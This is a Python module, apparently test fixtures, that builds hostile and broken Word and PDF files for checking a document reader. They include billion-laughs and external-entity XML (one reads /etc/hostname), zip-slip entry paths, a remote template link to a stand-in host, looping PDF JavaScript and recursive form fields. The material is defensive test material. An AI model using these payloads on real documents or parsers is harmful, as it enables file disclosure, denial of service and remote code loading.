"""Files that attack whoever reads them, or are broken: each is made here, from a form of ours."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from typing import Final, TypeAlias

import pikepdf

Make: TypeAlias = Callable[[bytes, bytes], bytes]
_BODY: Final = "word/document.xml"
_BILLION: Final = (
    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)
_FILE: Final = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/hostname">]>'


def _changed(word: bytes, parts: dict[str, Callable[[bytes], bytes]], more: dict[str, bytes] | None = None) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, parts.get(name, bytes)(old.read(name)))
        for name, data in (more or {}).items():
            new.writestr(name, data)
    return made.getvalue()


def _in_body(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    def change(part: bytes) -> bytes:
        assert old in part
        return part.replace(old, new, 1)

    return change


def _declared(declaration: bytes, entity: bytes) -> Callable[[bytes], bytes]:
    def change(part: bytes) -> bytes:
        root = part.index(b"<w:document")
        return declaration + part[root:].replace(b"</w:t>", entity + b"</w:t>", 1)

    return change


def _twice(word: bytes, _: bytes) -> bytes:
    made = io.BytesIO(word)
    with zipfile.ZipFile(made) as old:
        part = old.read(_BODY)
    entry = zipfile.ZipInfo("word/documenX.xml")
    with zipfile.ZipFile(made, "a") as new:
        new.writestr(entry, part)
    return made.getvalue().replace(b"word/documenX.xml", _BODY.encode())


def _locked(word: bytes, _: bytes) -> bytes:
    """Mark all parts as locked with a password, as in the flags of zip."""
    data = bytearray(word)
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(sign)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(sign, at + 4)
    return bytes(data)


def _pdf(change: Callable[[pikepdf.Pdf], None], **saved: object) -> Make:
    def make(_: bytes, pdf: bytes) -> bytes:
        made = io.BytesIO()
        with pikepdf.open(io.BytesIO(pdf)) as opened:
            change(opened)
            opened.save(made, **saved)  # type: ignore[arg-type]
        return made.getvalue()

    return make


def _circle(pdf: pikepdf.Pdf) -> None:
    """Let fields be their own kids and parents."""
    first = pdf.Root.AcroForm.Fields[0]
    loop = pdf.make_indirect(pikepdf.Dictionary(T=pikepdf.String("loop")))
    loop.Kids = pikepdf.Array([loop, first])
    loop.Parent = loop
    pdf.Root.AcroForm.Fields.append(loop)


def _deep(pdf: pikepdf.Pdf) -> None:
    inner = pdf.make_indirect(pikepdf.Dictionary(T=pikepdf.String("x"), FT=pikepdf.Name.Tx))
    for _ in range(3000):
        inner = pdf.make_indirect(pikepdf.Dictionary(T=pikepdf.String("x"), Kids=pikepdf.Array([inner])))
    pdf.Root.AcroForm.Fields.append(inner)


def _scripts(pdf: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1); while (true) {}"))
    pdf.Root.OpenAction = action
    pdf.Root.AcroForm.Fields[0].AA = pikepdf.Dictionary(K=action, F=action, V=action, C=action)


def _without_fields(pdf: pikepdf.Pdf) -> None:
    del pdf.Root.AcroForm
    for page in pdf.pages:
        if "/Annots" in page:
            del page.Annots


def _locked_pdf(_: pikepdf.Pdf) -> None:
    return None


_WIDE: Final = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'
# None of these can be read.
REFUSED: Final[dict[str, Make]] = {
    "bomb.docx": lambda word, _: _changed(word, {_BODY: lambda _: b"<a>" + b" " * 400_000_000 + b"</a>"}),
    "many-nodes.docx": lambda word, _: _changed(word, {_BODY: lambda _: b"<a>" + b"<b/>" * 3_000_000 + b"</a>"}),
    "deep.docx": lambda word, _: _changed(word, {_BODY: lambda _: b"<a>" * 200_000 + b"</a>" * 200_000}),
    "billion.docx": lambda word, _: _changed(word, {_BODY: _declared(_BILLION, b"&d;")}),
    "entity.docx": lambda word, _: _changed(word, {_BODY: _declared(_FILE, b"&a;")}),
    "utf16.docx": lambda word, _: _changed(
        word,
        {_BODY: lambda _: _WIDE.encode("utf-16")},
    ),
    "slip.docx": lambda word, _: _changed(word, {}, {"../../evil.xml": b"<a/>"}),
    "drive.docx": lambda word, _: _changed(word, {}, {"C:\\evil.xml": b"<a/>"}),
    "twice.docx": _twice,
    "cut.docx": lambda word, _: word[: len(word) // 2],
    "locked.docx": _locked,
    "empty.docx": lambda _word, _: b"",
    "text.docx": lambda _word, _: b"just some text",
    "picture.pdf": lambda _word, _: b"\x89PNG\r\n\x1a\n" + b"\0" * 100,
    "rich.doc": lambda _word, _: b"{\\rtf1 answers}",
    "cut.pdf": lambda _word, pdf: pdf[: len(pdf) // 3],
    "locked.pdf": _pdf(_locked_pdf, encryption=pikepdf.Encryption(owner="o", user="u")),
    "no-fields.pdf": _pdf(_without_fields),
    "mail.docx": lambda word, _: b"Received: from x\r\n\r\n" + word,
}
# These can: what is bad in them does nothing.
HARMLESS: Final[dict[str, Make]] = {
    "template.docx": lambda word, _: _changed(
        word,
        {
            "word/_rels/document.xml.rels": _in_body(
                b"</Relationships>",
                b'<Relationship Id="evil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                b'attachedTemplate" Target="http://press.invalid/x.dotm" TargetMode="External"/></Relationships>',
            )
        },
    ),
    "scripts.pdf": _pdf(_scripts),
    "circle.pdf": _pdf(_circle),
    "deep.pdf": _pdf(_deep),
    "owner.pdf": _pdf(_locked_pdf, encryption=pikepdf.Encryption(owner="o", user="")),
}
